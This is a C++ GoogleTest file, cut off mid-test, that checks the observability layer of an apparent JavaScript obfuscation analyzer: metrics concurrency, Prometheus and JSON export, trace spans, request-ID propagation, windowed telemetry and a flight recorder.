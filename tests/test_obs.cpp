// Observability subsystem tests: metrics-registry concurrency (exact
// counter totals, monotone percentiles), export formats (JSON document,
// Prometheus text), trace-span JSONL validity and nesting, and the
// end-to-end smoke used by the `obs` ctest label — a traced batch run
// whose outcomes must be bit-identical with and without sinks attached.
//
// The concurrency hammers run through support::run_parallel with explicit
// widths *and* under the JST_THREADS=1/4 ctest matrix, so both the pinned
// and the environment-driven pool shapes are exercised.
#include <gtest/gtest.h>

#include <atomic>
#include <cctype>
#include <cstdlib>
#include <set>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "analysis/dataset.h"
#include "analysis/service.h"
#include "obs/flight_recorder.h"
#include "obs/metrics.h"
#include "obs/request_context.h"
#include "obs/trace.h"
#include "obs/window.h"
#include "support/thread_pool.h"
#include "transform/technique.h"

namespace jst {
namespace {

// --- minimal JSON syntax checker (validation only, no DOM) ---

class JsonChecker {
 public:
  explicit JsonChecker(std::string_view text) : text_(text) {}

  bool valid() {
    skip_ws();
    if (!value()) return false;
    skip_ws();
    return pos_ == text_.size();
  }

 private:
  bool value() {
    if (pos_ >= text_.size()) return false;
    switch (text_[pos_]) {
      case '{': return object();
      case '[': return array();
      case '"': return string();
      case 't': return literal("true");
      case 'f': return literal("false");
      case 'n': return literal("null");
      default: return number();
    }
  }

  bool object() {
    ++pos_;  // '{'
    skip_ws();
    if (peek() == '}') { ++pos_; return true; }
    while (true) {
      skip_ws();
      if (!string()) return false;
      skip_ws();
      if (peek() != ':') return false;
      ++pos_;
      skip_ws();
      if (!value()) return false;
      skip_ws();
      if (peek() == ',') { ++pos_; continue; }
      if (peek() == '}') { ++pos_; return true; }
      return false;
    }
  }

  bool array() {
    ++pos_;  // '['
    skip_ws();
    if (peek() == ']') { ++pos_; return true; }
    while (true) {
      skip_ws();
      if (!value()) return false;
      skip_ws();
      if (peek() == ',') { ++pos_; continue; }
      if (peek() == ']') { ++pos_; return true; }
      return false;
    }
  }

  bool string() {
    if (peek() != '"') return false;
    ++pos_;
    while (pos_ < text_.size() && text_[pos_] != '"') {
      if (text_[pos_] == '\\') ++pos_;
      ++pos_;
    }
    if (pos_ >= text_.size()) return false;
    ++pos_;  // closing quote
    return true;
  }

  bool number() {
    const std::size_t start = pos_;
    if (peek() == '-' || peek() == '+') ++pos_;
    while (pos_ < text_.size() &&
           (std::isdigit(static_cast<unsigned char>(text_[pos_])) ||
            text_[pos_] == '.' || text_[pos_] == 'e' || text_[pos_] == 'E' ||
            text_[pos_] == '+' || text_[pos_] == '-')) {
      ++pos_;
    }
    return pos_ > start;
  }

  bool literal(std::string_view word) {
    if (text_.substr(pos_, word.size()) != word) return false;
    pos_ += word.size();
    return true;
  }

  char peek() const { return pos_ < text_.size() ? text_[pos_] : '\0'; }
  void skip_ws() {
    while (pos_ < text_.size() &&
           std::isspace(static_cast<unsigned char>(text_[pos_]))) {
      ++pos_;
    }
  }

  std::string_view text_;
  std::size_t pos_ = 0;
};

bool is_valid_json(std::string_view text) {
  return JsonChecker(text).valid();
}

std::vector<std::string> split_lines(const std::string& text) {
  std::vector<std::string> lines;
  std::istringstream stream(text);
  std::string line;
  while (std::getline(stream, line)) {
    if (!line.empty()) lines.push_back(line);
  }
  return lines;
}

// Extracts the numeric value of `"key":` from a single-line JSON event.
double json_field(const std::string& line, const std::string& key) {
  const std::string needle = '"' + key + "\":";
  const std::size_t at = line.find(needle);
  EXPECT_NE(at, std::string::npos) << key << " missing in " << line;
  if (at == std::string::npos) return 0.0;
  return std::atof(line.c_str() + at + needle.size());
}

std::string json_string_field(const std::string& line,
                              const std::string& key) {
  const std::string needle = '"' + key + "\":\"";
  const std::size_t at = line.find(needle);
  if (at == std::string::npos) return std::string();
  const std::size_t start = at + needle.size();
  return line.substr(start, line.find('"', start) - start);
}

// --- MetricsRegistry ---

TEST(Metrics, CounterConcurrentExactTotals) {
  obs::MetricsRegistry registry;
  obs::Counter& counter = registry.counter("jst_test_hits_total");
  constexpr std::size_t kTasks = 64;
  constexpr std::size_t kPerTask = 1000;
  support::run_parallel(4, kTasks, [&](std::size_t) {
    for (std::size_t i = 0; i < kPerTask; ++i) counter.add(1);
  });
  EXPECT_EQ(counter.value(), kTasks * kPerTask);
  // Same name resolves to the same instrument.
  registry.counter("jst_test_hits_total").add(1);
  EXPECT_EQ(counter.value(), kTasks * kPerTask + 1);
}

TEST(Metrics, GaugeSetAddSub) {
  obs::MetricsRegistry registry;
  obs::Gauge& gauge = registry.gauge("jst_test_depth");
  gauge.set(5.0);
  gauge.add(2.5);
  gauge.sub(1.5);
  EXPECT_DOUBLE_EQ(gauge.value(), 6.0);
}

TEST(Metrics, HistogramConcurrentTotalsAndMonotonePercentiles) {
  obs::MetricsRegistry registry;
  obs::Histogram& histogram = registry.histogram("jst_test_latency_ms");
  constexpr std::size_t kTasks = 32;
  constexpr std::size_t kPerTask = 500;
  // Deterministic values 0.5 .. 50.0 — exactly representable halves, so
  // the atomic sum is order-independent and comparable exactly.
  support::run_parallel(4, kTasks, [&](std::size_t task) {
    for (std::size_t i = 0; i < kPerTask; ++i) {
      histogram.record(0.5 * static_cast<double>((task * kPerTask + i) % 100) +
                       0.5);
    }
  });
  EXPECT_EQ(histogram.count(), kTasks * kPerTask);
  const double p50 = histogram.p50();
  const double p95 = histogram.p95();
  const double p99 = histogram.p99();
  EXPECT_LE(p50, p95);
  EXPECT_LE(p95, p99);
  EXPECT_LE(p99, histogram.max());
  EXPECT_DOUBLE_EQ(histogram.max(), 50.0);
  // Sum of 16000 values uniformly cycling 0.5..50.0.
  double expected_sum = 0.0;
  for (std::size_t i = 0; i < kTasks * kPerTask; ++i) {
    expected_sum += 0.5 * static_cast<double>(i % 100) + 0.5;
  }
  EXPECT_DOUBLE_EQ(histogram.sum(), expected_sum);
}

TEST(Metrics, HistogramPercentileInterpolationBrackets) {
  obs::Histogram histogram;
  for (int i = 1; i <= 100; ++i) histogram.record(static_cast<double>(i));
  // The median of 1..100 ms sits in the (50, 100] region of the bucket
  // layout; interpolation must keep it inside the data range and ordered.
  EXPECT_GT(histogram.p50(), 1.0);
  EXPECT_LT(histogram.p50(), 100.0);
  EXPECT_LE(histogram.p50(), histogram.p95());
  EXPECT_LE(histogram.p95(), histogram.p99());
  EXPECT_LE(histogram.p99(), 100.0);
  // Overflow bucket: a huge value is clamped to the observed max.
  histogram.record(123456.0);
  EXPECT_DOUBLE_EQ(histogram.max(), 123456.0);
  EXPECT_LE(histogram.percentile(100.0), 123456.0);
}

TEST(Metrics, JsonExportIsValidJson) {
  obs::MetricsRegistry registry;
  registry.counter("jst_a_total").add(3);
  registry.gauge("jst_b").set(1.5);
  registry.histogram("jst_c_ms").record(2.0);
  const std::string json = registry.to_json();
  EXPECT_TRUE(is_valid_json(json)) << json;
  EXPECT_NE(json.find("\"jst_a_total\":3"), std::string::npos);
  EXPECT_NE(json.find("\"p50\""), std::string::npos);
}

TEST(Metrics, PrometheusExportShape) {
  obs::MetricsRegistry registry;
  registry.counter("jst_a_total").add(7);
  registry.gauge("jst_b").set(2.0);
  obs::Histogram& histogram = registry.histogram("jst_c_ms");
  histogram.record(0.3);
  histogram.record(40.0);
  const std::string text = registry.to_prometheus();
  EXPECT_NE(text.find("# TYPE jst_a_total counter\njst_a_total 7\n"),
            std::string::npos);
  EXPECT_NE(text.find("# TYPE jst_b gauge\njst_b 2\n"), std::string::npos);
  EXPECT_NE(text.find("# TYPE jst_c_ms histogram\n"), std::string::npos);
  // Cumulative buckets end at the total count, and sum/count lines exist.
  EXPECT_NE(text.find("jst_c_ms_bucket{le=\"+Inf\"} 2\n"), std::string::npos);
  EXPECT_NE(text.find("jst_c_ms_sum 40.3\n"), std::string::npos);
  EXPECT_NE(text.find("jst_c_ms_count 2\n"), std::string::npos);
  // Every non-comment line is `name[{labels}] value`.
  for (const std::string& line : split_lines(text)) {
    if (line.rfind("# ", 0) == 0) continue;
    const std::size_t space = line.rfind(' ');
    ASSERT_NE(space, std::string::npos) << line;
    EXPECT_GT(space, 0u) << line;
    char* end = nullptr;
    std::strtod(line.c_str() + space + 1, &end);
    EXPECT_EQ(*end, '\0') << "unparseable value in: " << line;
  }
}

TEST(Metrics, ResetZeroesInstrumentsInPlace) {
  obs::MetricsRegistry registry;
  obs::Counter& counter = registry.counter("jst_r_total");
  obs::Histogram& histogram = registry.histogram("jst_r_ms");
  counter.add(5);
  histogram.record(1.0);
  registry.reset();
  EXPECT_EQ(counter.value(), 0u);
  EXPECT_EQ(histogram.count(), 0u);
  EXPECT_DOUBLE_EQ(histogram.sum(), 0.0);
  counter.add(2);  // references stay live after reset
  EXPECT_EQ(counter.value(), 2u);
}

// --- trace spans ---

TEST(Trace, DisabledTracingWritesNothing) {
  ASSERT_EQ(obs::trace_sink(), nullptr);
  { JST_SPAN("inert"); }
  std::ostringstream out;
  obs::TraceSink sink(out);
  EXPECT_EQ(sink.event_count(), 0u);
  EXPECT_TRUE(out.str().empty());
}

TEST(Trace, SpansEmitValidJsonlCompleteEvents) {
  if (!JST_TRACING) GTEST_SKIP() << "trace spans compiled out";
  std::ostringstream out;
  obs::TraceSink sink(out);
  obs::set_trace_sink(&sink);
  {
    JST_SPAN("outer");
    { JST_SPAN("inner"); }
  }
  support::run_parallel(4, 8, [](std::size_t) { JST_SPAN("worker"); });
  obs::set_trace_sink(nullptr);

  const std::vector<std::string> lines = split_lines(out.str());
  ASSERT_GE(lines.size(), 10u);  // inner+outer plus 8 worker spans
  EXPECT_EQ(sink.event_count(), lines.size());
  for (const std::string& line : lines) {
    EXPECT_TRUE(is_valid_json(line)) << line;
    EXPECT_EQ(json_string_field(line, "ph"), "X") << line;
    EXPECT_FALSE(json_string_field(line, "name").empty()) << line;
    EXPECT_GE(json_field(line, "ts"), 0.0) << line;
    EXPECT_GE(json_field(line, "dur"), 0.0) << line;
  }
}

TEST(Trace, NestedSpansAreIntervalContained) {
  if (!JST_TRACING) GTEST_SKIP() << "trace spans compiled out";
  std::ostringstream out;
  obs::TraceSink sink(out);
  obs::set_trace_sink(&sink);
  {
    JST_SPAN("parent");
    { JST_SPAN("child"); }
  }
  obs::set_trace_sink(nullptr);

  std::string parent, child;
  for (const std::string& line : split_lines(out.str())) {
    if (json_string_field(line, "name") == "parent") parent = line;
    if (json_string_field(line, "name") == "child") child = line;
  }
  ASSERT_FALSE(parent.empty());
  ASSERT_FALSE(child.empty());
  EXPECT_EQ(json_field(parent, "tid"), json_field(child, "tid"));
  // Child closes first (JSONL order) and nests inside the parent window.
  EXPECT_GE(json_field(child, "ts"), json_field(parent, "ts"));
  EXPECT_LE(json_field(child, "ts") + json_field(child, "dur"),
            json_field(parent, "ts") + json_field(parent, "dur") + 1e-3);
}

// --- end-to-end smoke (ctest label: obs) ---

// Tiny but real analyzer: trains in seconds, exercises every instrumented
// layer (parser, CFG/dataflow, features, forests, thread pool, service).
const analysis::TransformationAnalyzer& smoke_analyzer() {
  static const analysis::TransformationAnalyzer* kAnalyzer = [] {
    analysis::PipelineOptions options;
    options.training_regular_count = 16;
    options.per_technique_count = 4;
    options.seed = 20260806;
    options.detector.forest.tree_count = 4;
    options.detector.features.ngram.hash_dim = 64;
    auto* analyzer = new analysis::TransformationAnalyzer(options);
    analyzer->train();
    return analyzer;
  }();
  return *kAnalyzer;
}

std::vector<std::string> smoke_sources() {
  analysis::CorpusSpec spec;
  spec.regular_count = 6;
  spec.seed = 77;
  std::vector<std::string> sources = analysis::generate_regular_corpus(spec);
  sources.push_back("var broken = ;;; {{{");  // parse error path
  return sources;
}

void expect_outcomes_bit_identical(const analysis::BatchResponse& a,
                                   const analysis::BatchResponse& b) {
  ASSERT_EQ(a.responses.size(), b.responses.size());
  for (std::size_t i = 0; i < a.responses.size(); ++i) {
    const analysis::ScriptOutcome& lhs = a.responses[i].outcome;
    const analysis::ScriptOutcome& rhs = b.responses[i].outcome;
    EXPECT_EQ(lhs.status, rhs.status) << i;
    EXPECT_DOUBLE_EQ(lhs.report.level1.p_regular,
                     rhs.report.level1.p_regular) << i;
    EXPECT_DOUBLE_EQ(lhs.report.level1.p_minified,
                     rhs.report.level1.p_minified) << i;
    EXPECT_DOUBLE_EQ(lhs.report.level1.p_obfuscated,
                     rhs.report.level1.p_obfuscated) << i;
    EXPECT_EQ(lhs.report.technique_confidence,
              rhs.report.technique_confidence) << i;
    EXPECT_EQ(lhs.error_message, rhs.error_message) << i;
  }
}

TEST(ObsSmoke, BatchIsBitIdenticalWithAndWithoutSinks) {
  const analysis::AnalyzerService service(smoke_analyzer());
  const std::vector<std::string> sources = smoke_sources();

  for (const std::size_t threads : {std::size_t{1}, std::size_t{4}}) {
    analysis::BatchOptions options;
    options.threads = threads;
    const analysis::BatchResponse detached =
        service.analyze_batch(analysis::make_source_requests(sources),
                              options);

    std::ostringstream trace_out;
    obs::TraceSink sink(trace_out);
    obs::set_trace_sink(&sink);
    const analysis::BatchResponse attached =
        service.analyze_batch(analysis::make_source_requests(sources),
                              options);
    obs::set_trace_sink(nullptr);

    expect_outcomes_bit_identical(detached, attached);
    if (JST_TRACING) {
      EXPECT_GT(sink.event_count(), 0u) << "threads=" << threads;
    }
  }
}

TEST(ObsSmoke, TraceJsonlAndPrometheusParseCleanly) {
  if (!JST_TRACING) GTEST_SKIP() << "trace spans compiled out";
  const analysis::AnalyzerService service(smoke_analyzer());
  const std::vector<std::string> sources = smoke_sources();

  std::ostringstream trace_out;
  obs::TraceSink sink(trace_out);
  obs::set_trace_sink(&sink);
  analysis::BatchOptions options;
  options.threads = 2;
  const analysis::BatchResponse result =
      service.analyze_batch(analysis::make_source_requests(sources), options);
  obs::set_trace_sink(nullptr);

  // Every trace line is a complete JSON event; the span taxonomy covers
  // the batch plus each pipeline stage.
  const std::vector<std::string> lines = split_lines(trace_out.str());
  ASSERT_FALSE(lines.empty());
  std::size_t batch_spans = 0;
  std::size_t script_spans = 0;
  std::size_t stage_spans = 0;
  for (const std::string& line : lines) {
    ASSERT_TRUE(is_valid_json(line)) << line;
    const std::string name = json_string_field(line, "name");
    if (name == "batch") ++batch_spans;
    if (name == "script") ++script_spans;
    if (name == "static_analysis" || name == "features" ||
        name == "inference" || name == "lex" || name == "parse") {
      ++stage_spans;
    }
  }
  EXPECT_EQ(batch_spans, 1u);
  EXPECT_EQ(script_spans, sources.size());
  EXPECT_GE(stage_spans, 3 * sources.size());

  // Batch stats: percentiles ordered, stage sums partition the totals.
  const analysis::BatchStats& stats = result.stats;
  EXPECT_LE(stats.p50_script_ms, stats.p95_script_ms);
  EXPECT_LE(stats.p95_script_ms, stats.p99_script_ms);
  EXPECT_LE(stats.p99_script_ms, stats.max_script_ms);
  EXPECT_LE(stats.stage_ms_sum(), stats.total_script_ms + 1e-6);
  EXPECT_NEAR(stats.stage_ms_sum(), stats.total_script_ms,
              0.05 * stats.total_script_ms + 0.05 * stats.total);
  EXPECT_TRUE(is_valid_json(stats.to_json())) << stats.to_json();

  // The global registry saw the batch and exports cleanly in both formats.
  obs::MetricsRegistry& registry = obs::MetricsRegistry::global();
  EXPECT_GE(registry.counter("jst_scripts_total").value(), sources.size());
  EXPECT_GE(registry.counter("jst_batches_total").value(), 1u);
  EXPECT_TRUE(is_valid_json(registry.to_json()));
  const std::string prometheus = registry.to_prometheus();
  EXPECT_NE(prometheus.find("# TYPE jst_script_total_ms histogram"),
            std::string::npos);
  for (const std::string& line : split_lines(prometheus)) {
    if (line.rfind("# ", 0) == 0) continue;
    const std::size_t space = line.rfind(' ');
    ASSERT_NE(space, std::string::npos) << line;
  }
}

// Trace spans must account for (nearly) all of the batch wall time: the
// top-level "batch" span is openest-to-close of the whole run, so its
// duration must be ≥ 95% of the measured wall_ms.
TEST(ObsSmoke, BatchSpanCoversWallTime) {
  if (!JST_TRACING) GTEST_SKIP() << "trace spans compiled out";
  const analysis::AnalyzerService service(smoke_analyzer());
  const std::vector<std::string> sources = smoke_sources();

  std::ostringstream trace_out;
  obs::TraceSink sink(trace_out);
  obs::set_trace_sink(&sink);
  analysis::BatchOptions options;
  options.threads = 2;
  const analysis::BatchResponse result =
      service.analyze_batch(analysis::make_source_requests(sources), options);
  obs::set_trace_sink(nullptr);

  double batch_dur_us = 0.0;
  for (const std::string& line : split_lines(trace_out.str())) {
    if (json_string_field(line, "name") == "batch") {
      batch_dur_us = json_field(line, "dur");
    }
  }
  EXPECT_GE(batch_dur_us / 1000.0, 0.95 * result.stats.wall_ms);
}

// --- request context (DESIGN.md §14) ---

TEST(RequestContext, GenerateProducesUniqueValidIds) {
  std::set<std::string> seen;
  for (int i = 0; i < 256; ++i) {
    const std::string id = obs::generate_request_id();
    EXPECT_TRUE(obs::is_valid_request_id(id)) << id;
    EXPECT_TRUE(seen.insert(id).second) << "duplicate id " << id;
  }
}

TEST(RequestContext, ValidatorAcceptsOnly16LowercaseHex) {
  EXPECT_TRUE(obs::is_valid_request_id("0123456789abcdef"));
  EXPECT_FALSE(obs::is_valid_request_id(""));
  EXPECT_FALSE(obs::is_valid_request_id("0123456789abcde"));     // 15
  EXPECT_FALSE(obs::is_valid_request_id("0123456789abcdef0"));   // 17
  EXPECT_FALSE(obs::is_valid_request_id("0123456789ABCDEF"));    // upper
  EXPECT_FALSE(obs::is_valid_request_id("0123456789abcdeg"));    // non-hex
}

TEST(RequestContext, ScopeInstallsNestsAndRestores) {
  EXPECT_TRUE(obs::current_request_id().empty());
  {
    obs::RequestScope outer("aaaaaaaaaaaaaaaa");
    EXPECT_EQ(obs::current_request_id(), "aaaaaaaaaaaaaaaa");
    {
      obs::RequestScope inner("bbbbbbbbbbbbbbbb");
      EXPECT_EQ(obs::current_request_id(), "bbbbbbbbbbbbbbbb");
    }
    EXPECT_EQ(obs::current_request_id(), "aaaaaaaaaaaaaaaa");
    {
      obs::RequestScope cleared("");  // explicit "no request" sub-scope
      EXPECT_TRUE(obs::current_request_id().empty());
    }
    EXPECT_EQ(obs::current_request_id(), "aaaaaaaaaaaaaaaa");
  }
  EXPECT_TRUE(obs::current_request_id().empty());
}

// The serving-path hop: submit() must carry the submitter's id onto the
// worker lane, and concurrent requests must never see each other's ids.
// Runs under the JST_THREADS=1/4 ctest matrix, so both the inline and
// the real-worker pool shapes are covered.
TEST(RequestContext, ThreadPoolSubmitPropagatesWithoutCrossContamination) {
  support::ThreadPool pool(4);
  constexpr std::size_t kSubmitters = 4;
  constexpr std::size_t kTasksEach = 32;
  std::array<std::array<std::string, kTasksEach>, kSubmitters> observed;
  std::atomic<std::size_t> done{0};

  std::vector<std::thread> submitters;
  for (std::size_t s = 0; s < kSubmitters; ++s) {
    submitters.emplace_back([&, s] {
      const std::string rid =
          std::string(15, '0') + static_cast<char>('a' + s);
      obs::RequestScope scope(rid);
      for (std::size_t t = 0; t < kTasksEach; ++t) {
        pool.submit([&, s, t] {
          observed[s][t] = std::string(obs::current_request_id());
          done.fetch_add(1);
        });
      }
    });
  }
  for (std::thread& thread : submitters) thread.join();
  while (done.load() < kSubmitters * kTasksEach) std::this_thread::yield();

  for (std::size_t s = 0; s < kSubmitters; ++s) {
    const std::string expected =
        std::string(15, '0') + static_cast<char>('a' + s);
    for (std::size_t t = 0; t < kTasksEach; ++t) {
      EXPECT_EQ(observed[s][t], expected) << "submitter " << s;
    }
  }
  // Workers restore their ambient (empty) context after every task.
  std::atomic<bool> ambient_empty{false};
  std::atomic<bool> checked{false};
  pool.submit([&] {
    ambient_empty = obs::current_request_id().empty();
    checked = true;
  });
  while (!checked.load()) std::this_thread::yield();
  EXPECT_TRUE(ambient_empty.load());
}

TEST(Trace, SpanCarriesRequestIdWhenScoped) {
  if (!JST_TRACING) GTEST_SKIP() << "trace spans compiled out";
  std::ostringstream out;
  obs::TraceSink sink(out);
  obs::set_trace_sink(&sink);
  { JST_SPAN("bare"); }
  {
    obs::RequestScope scope("feedfacefeedface");
    JST_SPAN("scoped");
  }
  obs::set_trace_sink(nullptr);

  std::string bare, scoped;
  for (const std::string& line : split_lines(out.str())) {
    if (json_string_field(line, "name") == "bare") bare = line;
    if (json_string_field(line, "name") == "scoped") scoped = line;
  }
  ASSERT_FALSE(bare.empty());
  ASSERT_FALSE(scoped.empty());
  // Pre-PR-7 byte shape without a request in scope: no args member.
  EXPECT_EQ(bare.find("\"args\""), std::string::npos) << bare;
  EXPECT_EQ(json_string_field(scoped, "rid"), "feedfacefeedface") << scoped;
  EXPECT_TRUE(is_valid_json(scoped)) << scoped;
}

// --- sliding-window telemetry ---

TEST(Window, CounterSumsOnlyTheWindow) {
  obs::WindowedCounter counter(10);
  counter.add_at(100, 5);
  counter.add_at(104, 3);
  counter.add_at(109, 2);
  EXPECT_EQ(counter.sum_at(109), 10u);           // all inside [100, 109]
  EXPECT_EQ(counter.sum_at(110), 5u);            // second 100 aged out
  EXPECT_EQ(counter.sum_at(114), 2u);            // only second 109 left
  EXPECT_EQ(counter.sum_at(119), 0u);            // everything aged out
  EXPECT_DOUBLE_EQ(counter.rate_at(109), 1.0);   // 10 events / 10 s
}

TEST(Window, CounterAccumulatesWithinOneSecond) {
  obs::WindowedCounter counter(5);
  for (int i = 0; i < 7; ++i) counter.add_at(42);
  EXPECT_EQ(counter.sum_at(42), 7u);
  EXPECT_EQ(counter.sum_at(46), 7u);
  EXPECT_EQ(counter.sum_at(47), 0u);
}

// The windowed histogram forgets a slow burst once it ages out — the
// property behind the stale-admission fix (Server::admission_p95_ms).
TEST(Window, HistogramForgetsOldBurst) {
  obs::WindowedHistogram histogram(10);
  // Second 0: a burst of 200 ms requests.
  for (int i = 0; i < 100; ++i) histogram.record_at(0, 200.0);
  obs::WindowSnapshot during = histogram.snapshot_at(5);
  EXPECT_EQ(during.count, 100u);
  EXPECT_GT(during.p95, 100.0);
  EXPECT_DOUBLE_EQ(during.max, 200.0);

  // Second 30: only fast traffic in the window.
  for (int i = 0; i < 100; ++i) histogram.record_at(30, 1.0);
  obs::WindowSnapshot after = histogram.snapshot_at(30);
  EXPECT_EQ(after.count, 100u);
  EXPECT_LT(after.p95, 5.0);
  EXPECT_DOUBLE_EQ(after.max, 1.0);
}

TEST(Window, HistogramSnapshotPercentilesOrdered) {
  obs::WindowedHistogram histogram(60);
  for (int i = 1; i <= 100; ++i) {
    histogram.record_at(1000 + static_cast<std::uint64_t>(i % 10),
                        static_cast<double>(i));
  }
  const obs::WindowSnapshot snapshot = histogram.snapshot_at(1009);
  EXPECT_EQ(snapshot.count, 100u);
  EXPECT_DOUBLE_EQ(snapshot.sum, 5050.0);
  EXPECT_LE(snapshot.p50, snapshot.p95);
  EXPECT_LE(snapshot.p95, snapshot.p99);
  EXPECT_LE(snapshot.p99, snapshot.max);
  EXPECT_DOUBLE_EQ(snapshot.max, 100.0);
}

TEST(Window, ConcurrentAddsAreExactWithinOneSecond) {
  obs::WindowedCounter counter(60);
  constexpr std::size_t kTasks = 64;
  constexpr std::size_t kPerTask = 500;
  support::run_parallel(4, kTasks, [&](std::size_t) {
    for (std::size_t i = 0; i < kPerTask; ++i) counter.add_at(7);
  });
  EXPECT_EQ(counter.sum_at(7), kTasks * kPerTask);
}

// --- flight recorder ---

TEST(Flight, RecordsDumpAsValidNdjsonAndJsonArray) {
  obs::FlightRecorder recorder;
  recorder.record(obs::FlightEventKind::kAdmit, "cafecafecafecafe", {},
                  "admitted", 3.0, 12.5, 1000.0);
  recorder.record(obs::FlightEventKind::kShed, "cafecafecafecafe", {},
                  "overloaded", 7.0, 99.0, 10.0);
  recorder.record(obs::FlightEventKind::kStage, "", "deadbeefdeadbeef",
                  "inference", 0.25);

  const std::string ndjson = recorder.dump_ndjson();
  const std::vector<std::string> lines = split_lines(ndjson);
  ASSERT_EQ(lines.size(), 3u);
  for (const std::string& line : lines) {
    EXPECT_TRUE(is_valid_json(line)) << line;
    EXPECT_FALSE(json_string_field(line, "kind").empty()) << line;
    EXPECT_GE(json_field(line, "ts_us"), 0.0) << line;
  }
  EXPECT_EQ(json_string_field(lines[0], "kind"), "admit");
  EXPECT_EQ(json_string_field(lines[0], "rid"), "cafecafecafecafe");
  EXPECT_EQ(json_string_field(lines[0], "label"), "admitted");
  EXPECT_DOUBLE_EQ(json_field(lines[1], "b"), 99.0);
  EXPECT_EQ(json_string_field(lines[2], "key"), "deadbeefdeadbeef");

  const std::string array = recorder.dump_json_array();
  EXPECT_TRUE(is_valid_json(array)) << array;
  EXPECT_EQ(array.front(), '[');
  EXPECT_EQ(array.back(), ']');
}

TEST(Flight, RingOverwritesOldestBeyondCapacity) {
  obs::FlightRecorder recorder;
  const std::size_t total = obs::FlightRecorder::kRingCapacity + 50;
  for (std::size_t i = 0; i < total; ++i) {
    recorder.record(obs::FlightEventKind::kRespond, {}, {}, nullptr,
                    static_cast<double>(i));
  }
  const std::vector<std::string> lines = split_lines(recorder.dump_ndjson());
  ASSERT_EQ(lines.size(), obs::FlightRecorder::kRingCapacity);
  // The survivors are exactly the most recent kRingCapacity events.
  EXPECT_DOUBLE_EQ(json_field(lines.front(), "a"), 50.0);
  EXPECT_DOUBLE_EQ(json_field(lines.back(), "a"),
                   static_cast<double>(total - 1));
}

TEST(Flight, DisabledRecorderDropsEvents) {
  obs::FlightRecorder recorder;
  recorder.set_enabled(false);
  recorder.record(obs::FlightEventKind::kAdmit, {}, {}, nullptr);
  EXPECT_TRUE(recorder.dump_ndjson().empty());
  recorder.set_enabled(true);
  recorder.record(obs::FlightEventKind::kAdmit, {}, {}, nullptr);
  EXPECT_EQ(split_lines(recorder.dump_ndjson()).size(), 1u);
}

TEST(Flight, RecordDefaultsRidToCurrentScope) {
  obs::FlightRecorder& recorder = obs::FlightRecorder::global();
  recorder.clear();
  {
    obs::RequestScope scope("0123456789abcdef");
    obs::flight_record(obs::FlightEventKind::kPickup, {}, nullptr, 1.5);
  }
  bool found = false;
  for (const std::string& line : split_lines(recorder.dump_ndjson())) {
    if (json_string_field(line, "kind") == "pickup" &&
        json_string_field(line, "rid") == "0123456789abcdef") {
      found = true;
    }
  }
  recorder.clear();
  EXPECT_TRUE(found);
}

TEST(Flight, SlowExemplarsKeepLargestPerHash) {
  obs::SlowExemplars exemplars(2);
  EXPECT_TRUE(exemplars.offer("hash-a", "aaaaaaaaaaaaaaaa", 10.0));
  EXPECT_TRUE(exemplars.offer("hash-b", "bbbbbbbbbbbbbbbb", 5.0));
  // Same hash, slower: re-ranks in place (no duplicate entry).
  EXPECT_TRUE(exemplars.offer("hash-b", "cccccccccccccccc", 20.0));
  // Same hash, faster: ignored.
  EXPECT_FALSE(exemplars.offer("hash-a", "dddddddddddddddd", 1.0));
  // New hash slower than the floor evicts the current minimum.
  EXPECT_TRUE(exemplars.offer("hash-c", "eeeeeeeeeeeeeeee", 15.0));
  // New hash faster than the floor is rejected at capacity.
  EXPECT_FALSE(exemplars.offer("hash-d", "ffffffffffffffff", 2.0));

  const auto snapshot = exemplars.snapshot();
  ASSERT_EQ(snapshot.size(), 2u);
  EXPECT_EQ(snapshot[0].source_hash, "hash-b");
  EXPECT_DOUBLE_EQ(snapshot[0].service_ms, 20.0);
  EXPECT_EQ(snapshot[0].rid, "cccccccccccccccc");
  EXPECT_EQ(snapshot[1].source_hash, "hash-c");
  EXPECT_TRUE(is_valid_json(exemplars.to_json())) << exemplars.to_json();
}

// --- unit-interval histogram layout (confidence telemetry) ---

TEST(Metrics, UnitLayoutHistogramResolvesConfidences) {
  obs::MetricsRegistry registry;
  obs::Histogram& histogram =
      registry.histogram("jst_test_confidence", obs::HistogramLayout::kUnit);
  EXPECT_EQ(histogram.layout(), obs::HistogramLayout::kUnit);
  // The latency layout would crush [0,1] into two buckets; the unit
  // layout must keep 0.1 and 0.9 well separated.
  for (int i = 0; i < 90; ++i) histogram.record(0.1);
  for (int i = 0; i < 10; ++i) histogram.record(0.9);
  EXPECT_LT(histogram.p50(), 0.2);
  EXPECT_GT(histogram.p95(), 0.8);
  EXPECT_LE(histogram.percentile(100.0), 0.9 + 1e-9);
  // Same name re-resolves to the same instrument, layout unchanged.
  EXPECT_EQ(&registry.histogram("jst_test_confidence"), &histogram);
  EXPECT_EQ(histogram.layout(), obs::HistogramLayout::kUnit);
}

// --- Prometheus conformance (HELP/TYPE headers, cumulative buckets) ---

TEST(Metrics, PrometheusConformanceHelpTypeAndCumulativeBuckets) {
  obs::MetricsRegistry registry;
  registry.counter("jst_pc_total").add(4);
  registry.set_help("jst_pc_total", "a counter with help");
  registry.gauge("jst_pc_depth").set(3.0);
  obs::Histogram& histogram = registry.histogram("jst_pc_ms");
  registry.set_help("jst_pc_ms", "a histogram with help");
  histogram.record(0.2);
  histogram.record(3.0);
  histogram.record(300.0);

  const std::string text = registry.to_prometheus();
  // Every family has # HELP immediately followed by # TYPE.
  EXPECT_NE(text.find("# HELP jst_pc_total a counter with help\n"
                      "# TYPE jst_pc_total counter\n"),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("# HELP jst_pc_ms a histogram with help\n"
                      "# TYPE jst_pc_ms histogram\n"),
            std::string::npos)
      << text;
  // Un-helped families still carry a HELP line (conformant exporters
  // always pair HELP with TYPE).
  EXPECT_NE(text.find("# HELP jst_pc_depth "), std::string::npos) << text;

  // Parse-validate the histogram family: le= labels strictly increasing,
  // bucket counts cumulative (monotone), +Inf bucket equals _count.
  double previous_le = -1.0;
  std::uint64_t previous_count = 0;
  std::uint64_t inf_count = 0;
  bool saw_inf = false;
  for (const std::string& line : split_lines(text)) {
    if (line.rfind("jst_pc_ms_bucket{le=\"", 0) != 0) continue;
    const std::size_t open = line.find('"') + 1;
    const std::size_t close = line.find('"', open);
    const std::string le = line.substr(open, close - open);
    const std::uint64_t count = static_cast<std::uint64_t>(
        std::atoll(line.c_str() + line.rfind(' ') + 1));
    EXPECT_GE(count, previous_count) << line;
